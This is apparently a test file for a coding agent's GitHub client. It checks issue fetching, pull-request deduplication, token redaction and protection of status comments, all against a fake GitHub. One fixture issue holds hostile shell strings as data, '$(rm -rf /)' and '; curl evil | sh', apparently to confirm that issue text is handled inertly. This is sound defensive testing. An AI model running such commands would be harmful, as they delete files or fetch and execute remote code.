import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  createGitHubClient,
  fetchIssue,
  findIssuePullRequest,
  mintInstallationToken,
  openOrUpdatePullRequest,
  STATUS_COMMENT_MARKER,
  upsertStatusComment,
  type GitHubClient,
} from '../../src/github/index.js';
import { NotFoundError, PolicyError, UsageError } from '../../src/errors.js';
import { git } from '../fakes/github/state.js';
import { startFakeGitHub, type FakeApp, type FakeGitHub } from '../fakes/github/index.js';

let github: FakeGitHub;
let app: FakeApp;
let client: GitHubClient;
const repo = { owner: 'acme', repo: 'widgets' };
const redact = (text: string) => text.replace(/ghs_[A-Za-z0-9_]+/g, '[REDACTED]');

/** Put a commit on the issue branch directly in the fake's bare repository. */
async function pushBranch(branch: string) {
  const bare = github.state.mustRepo('acme/widgets').gitDir;
  const tree = (await git(['rev-parse', 'main^{tree}'], bare)).trim();
  const parent = (await git(['rev-parse', 'main'], bare)).trim();
  const commit = (await git(['commit-tree', tree, '-p', parent, '-m', 'agent work'], bare)).trim();
  await git(['update-ref', `refs/heads/${branch}`, commit], bare);
}

beforeAll(async () => {
  github = await startFakeGitHub();
  app = github.state.createApp({ slug: 'agentium' });
  await github.state.createRepo('acme/widgets');
  const installation = github.state.install(app, 'acme', ['widgets']);
  const creds = { appId: app.id, privateKey: app.privateKey, apiUrl: github.apiUrl };
  const { token } = await mintInstallationToken(creds, installation.id, 'widgets');
  client = createGitHubClient({ apiUrl: github.apiUrl, token, sleep: async () => undefined });
});
afterAll(() => github.close());
afterEach(() => {
  expect(github.violations.splice(0)).toEqual([]);
});

describe('fetchIssue', () => {
  it('returns title, body, labels and every comment (paginated) as data', async () => {
    const issue = github.state.addIssue('acme/widgets', {
      title: 'Crash on `$(rm -rf /)`',
      body: 'Steps: run "; curl evil | sh"',
      labels: ['agentium', 'bug'],
      author: 'reporter',
    });
    for (let i = 0; i < 105; i++) github.state.addComment('acme/widgets', issue.number, `comment ${i}`, github.state.user('reporter'));
    const fetched = await fetchIssue(client, repo, issue.number);
    expect(fetched).toMatchObject({
      number: issue.number,
      title: 'Crash on `$(rm -rf /)`',
      body: 'Steps: run "; curl evil | sh"',
      state: 'open',
      labels: ['agentium', 'bug'],
      author: 'reporter',
    });
    expect(fetched.comments).toHaveLength(105);
    expect(fetched.comments[104]?.body).toBe('comment 104');
    const pages = github.requests.filter((r) => r.operationId === 'issues/list-comments');
    expect(pages.map((r) => new URL(r.url, 'http://x').searchParams.get('page'))).toEqual([null, '2']);
  });

  it('refuses a closed issue with a PolicyError (exit 6)', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'done', state: 'closed' });
    const error = await fetchIssue(client, repo, issue.number).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PolicyError);
    expect((error as PolicyError).exitCode).toBe(6);
    expect((error as PolicyError).message).toMatch(/is closed/);
  });

  it('refuses a missing issue with a NotFoundError (exit 4)', async () => {
    const error = await fetchIssue(client, repo, 9999).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(NotFoundError);
    expect((error as NotFoundError).exitCode).toBe(4);
    expect((error as NotFoundError).message).toMatch(/issue #9999 of acme\/widgets/);
  });

  it('refuses a pull request number', async () => {
    await pushBranch('feature');
    const pull = github.state.addPull(github.state.mustRepo('acme/widgets'), {
      title: 'a PR', body: null, head: 'feature', headSha: 'x', base: 'main', baseSha: 'y', draft: false, user: github.state.user('acme'),
    });
    await expect(fetchIssue(client, repo, pull.number)).rejects.toBeInstanceOf(UsageError);
  });
});

describe('pull request dedupe', () => {
  it('opens one draft PR that closes the issue, and a second run updates it', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Add a widget' });
    const branch = `agentium/issue-${issue.number}`;
    await pushBranch(branch);
    expect(await findIssuePullRequest(client, repo, issue.number)).toBeUndefined();

    const first = await openOrUpdatePullRequest({
      client, repo, issueNumber: issue.number, base: 'main', title: 'Add a widget', body: 'Adds it. Token ghs_abc123 seen.', redact,
    });
    expect(first.created).toBe(true);
    expect(first.draft).toBe(true);
    const second = await openOrUpdatePullRequest({
      client, repo, issueNumber: issue.number, base: 'main', title: 'Add a widget (v2)', body: 'Adds it, better.', redact,
    });
    expect(second).toMatchObject({ created: false, number: first.number });

    const pulls = github.state.pulls.filter((p) => p.head === branch);
    expect(pulls).toHaveLength(1);
    expect(pulls[0]).toMatchObject({ title: 'Add a widget (v2)', draft: true, base: 'main' });
    expect(pulls[0]?.body).toBe(`Adds it, better.\n\nCloses #${issue.number}`);
    const create = github.requests.find((r) => r.operationId === 'pulls/create');
    expect(create?.body).toEqual({ title: 'Add a widget', body: `Adds it. Token [REDACTED] seen.\n\nCloses #${issue.number}`, head: branch, base: 'main', draft: true });
    expect(github.requests.filter((r) => r.operationId === 'pulls/create')).toHaveLength(1);
    expect(github.requests.filter((r) => r.operationId === 'pulls/update')).toHaveLength(1);
  });

  it('a PR that GitHub made but answered 502 for is found and updated, not opened twice', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Lost answer' });
    const branch = `agentium/issue-${issue.number}`;
    await pushBranch(branch);
    github.failNext({ method: 'POST', path: '/repos/acme/widgets/pulls', status: 502, afterHandling: true });
    const pull = await openOrUpdatePullRequest({ client, repo, issueNumber: issue.number, base: 'main', title: 'Lost answer', body: 'b', redact });
    expect(pull).toMatchObject({ created: true, draft: true });
    expect(github.state.pulls.filter((p) => p.head === branch)).toHaveLength(1);
    expect(github.state.pulls.find((p) => p.head === branch)?.number).toBe(pull.number);
    const creates = github.requests.filter((r) => r.operationId === 'pulls/create' && (r.body as { head?: string }).head === branch);
    expect(creates.map((r) => r.status)).toEqual([502]);
  });

  it('a 422 "A pull request already exists" (a list that did not show it yet) updates the existing PR', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Stale list' });
    const branch = `agentium/issue-${issue.number}`;
    await pushBranch(branch);
    const first = await openOrUpdatePullRequest({ client, repo, issueNumber: issue.number, base: 'main', title: 'v1', body: 'b', redact });
    // GitHub's list can lag behind a create: the first look finds nothing.
    github.failNext({ method: 'GET', path: '/repos/acme/widgets/pulls', status: 200, body: [] });
    const second = await openOrUpdatePullRequest({ client, repo, issueNumber: issue.number, base: 'main', title: 'v2', body: 'b', redact });
    expect(second).toMatchObject({ number: first.number, created: false });
    expect(github.state.pulls.filter((p) => p.head === branch).map((p) => p.title)).toEqual(['v2']);
  });

  it('ignores an open PR from another branch', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Other' });
    expect(await findIssuePullRequest(client, repo, issue.number)).toBeUndefined();
  });
});

/** Token mode: a personal token, which writes as a User (not a Bot). */
function personalTokenClient(login: string): GitHubClient {
  const { token } = github.state.mintToken({ kind: 'user', actor: github.state.user(login), permissions: { issues: 'write' } });
  return createGitHubClient({ apiUrl: github.apiUrl, token, sleep: async () => undefined });
}

describe('status comment', () => {
  it('is created once, then updated; a user comment carrying the marker is not touched', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Comment me' });
    const spoof = github.state.addComment('acme/widgets', issue.number, `${STATUS_COMMENT_MARKER}\nfake`, github.state.user('mallory'));
    const botLogin = 'agentium[bot]';
    const first = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'Started with ghs_secret1', redact, botLogin });
    const second = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'PR opened', redact, botLogin });
    const third = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'Done', redact, botLogin });
    expect(first.created).toBe(true);
    expect(second).toMatchObject({ created: false, id: first.id });
    expect(third).toMatchObject({ created: false, id: first.id });
    const comments = github.state.comments.filter((c) => c.issueNumber === issue.number && c.repoId === spoof.repoId);
    expect(comments).toHaveLength(2);
    expect(comments.find((c) => c.id === first.id)?.body).toBe(`${STATUS_COMMENT_MARKER}\nDone`);
    expect(comments.find((c) => c.id === first.id)?.user.login).toBe('agentium[bot]');
    expect(spoof.body).toBe(`${STATUS_COMMENT_MARKER}\nfake`);
    const created = github.requests.find((r) => r.operationId === 'issues/create-comment');
    expect(JSON.stringify(created?.body)).not.toContain('ghs_secret1');
  });

  it('token mode: two upserts with a user token leave exactly one comment, updated in place', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Token mode' });
    const userClient = personalTokenClient('octocat');
    const first = await upsertStatusComment({ client: userClient, repo, issueNumber: issue.number, body: 'Started', redact });
    const second = await upsertStatusComment({ client: userClient, repo, issueNumber: issue.number, body: 'Done', redact });
    expect(first.created).toBe(true);
    expect(second).toMatchObject({ created: false, id: first.id });
    const comments = github.state.comments.filter((c) => c.issueNumber === issue.number && c.repoId === github.state.mustRepo('acme/widgets').id);
    expect(comments.map((c) => [c.user.login, c.body])).toEqual([['octocat', `${STATUS_COMMENT_MARKER}\nDone`]]);
    expect(github.requests.filter((r) => r.operationId === 'users/get-authenticated' && r.status === 200)).toHaveLength(2);
  });

  it('a marker comment by another user or another bot is never edited', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Crowded' });
    const otherBot = github.state.addComment('acme/widgets', issue.number, `${STATUS_COMMENT_MARKER}\nnot ours`, github.state.user('other-app[bot]', 'Bot'), true);
    const otherUser = github.state.addComment('acme/widgets', issue.number, `${STATUS_COMMENT_MARKER}\nnot ours either`, github.state.user('mallory'));
    const userClient = personalTokenClient('octocat');
    const asUser = await upsertStatusComment({ client: userClient, repo, issueNumber: issue.number, body: 'mine', redact });
    const asApp = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'the App', redact, botLogin: 'agentium[bot]' });
    expect(asUser.created).toBe(true);
    expect(asApp.created).toBe(true);
    expect(otherBot.body).toBe(`${STATUS_COMMENT_MARKER}\nnot ours`);
    expect(otherUser.body).toBe(`${STATUS_COMMENT_MARKER}\nnot ours either`);
    expect(github.requests.filter((r) => r.operationId === 'issues/update-comment' && r.url.includes(String(otherBot.id)))).toEqual([]);
  });

  it('an installation token with no known bot login posts a new comment rather than edit one it cannot prove its own', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'No login' });
    const otherBot = github.state.addComment('acme/widgets', issue.number, `${STATUS_COMMENT_MARKER}\nnot ours`, github.state.user('other-app[bot]', 'Bot'), true);
    const result = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'posted', redact });
    expect(result.created).toBe(true);
    expect(otherBot.body).toBe(`${STATUS_COMMENT_MARKER}\nnot ours`);
    expect(github.requests.filter((r) => r.operationId === 'users/get-authenticated').at(-1)?.status).toBe(403);
  });

  it('a comment that GitHub made but answered 502 for is not posted twice', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Lost comment' });
    github.failNext({ method: 'POST', path: `/repos/acme/widgets/issues/${issue.number}/comments`, status: 502, afterHandling: true });
    const result = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'once', redact, botLogin: 'agentium[bot]' });
    expect(result.created).toBe(true);
    const comments = github.state.comments.filter((c) => c.issueNumber === issue.number && c.repoId === github.state.mustRepo('acme/widgets').id);
    expect(comments.map((c) => c.id)).toEqual([result.id]);
    expect(comments[0]?.body).toBe(`${STATUS_COMMENT_MARKER}\nonce`);
  });
});
